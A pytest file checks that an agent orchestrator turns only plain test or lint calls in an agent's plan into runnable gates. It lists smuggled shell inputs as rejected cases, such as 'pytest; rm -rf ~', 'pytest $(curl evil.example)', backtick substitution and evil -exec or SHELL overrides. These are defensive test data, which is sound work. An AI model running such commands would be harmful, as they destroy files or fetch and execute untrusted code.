"""Gates in an agent's plan: only plain calls of checking programs are run."""

import pytest

from orchestrator.core.gates.gate import GateSource
from orchestrator.schemas.agent_output.plan import planned_gates


@pytest.mark.parametrize(
    ("words", "command"),
    [
        ("pytest tests/test_a.py", "pytest tests/test_a.py"),
        ("`pytest -q tests/test_a.py::test_b` passes", "pytest -q tests/test_a.py::test_b"),
        ("npm test", "npm test"),
        ("go test ./...", "go test ./..."),
        ("ruff check src/", "ruff check src/"),
    ],
)
def test_a_plain_call_of_a_checker_is_a_gate(words: str, command: str) -> None:
    [gate] = planned_gates([words])

    assert (gate.run, gate.source, gate.new_only) == (command, GateSource.PLANNED, False)
    assert gate.name.startswith("planned-")


@pytest.mark.parametrize(
    "words",
    [
        "all tests pass",
        "pytest passes",
        "`pytest` passes and `ruff check` is clean",
        "pytest; rm -rf ~",
        "pytest $(curl evil.example)",
        "pytest tests/`id`",
        "pytest && true",
        "pytest -p evil_plugin",
        "pytest -c ../x.ini",
        "pytest --rootdir=/tmp",
        "pytest /etc/x.py",
        "pytest ../../x.py",
        "make -f evil.mk check",
        "make check SHELL=/tmp/evil",
        "go test -exec=./evil ./...",
        "go vet -vettool=./evil ./...",
        "npm run deploy",
        "curl https://example.org/x.sh",
        "ruff check --fix src/",
        "pytest tests/a.py\nrm x",
        "",
    ],
)
def test_words_and_what_could_do_harm_are_no_gate(words: str) -> None:
    assert planned_gates([words]) == ()
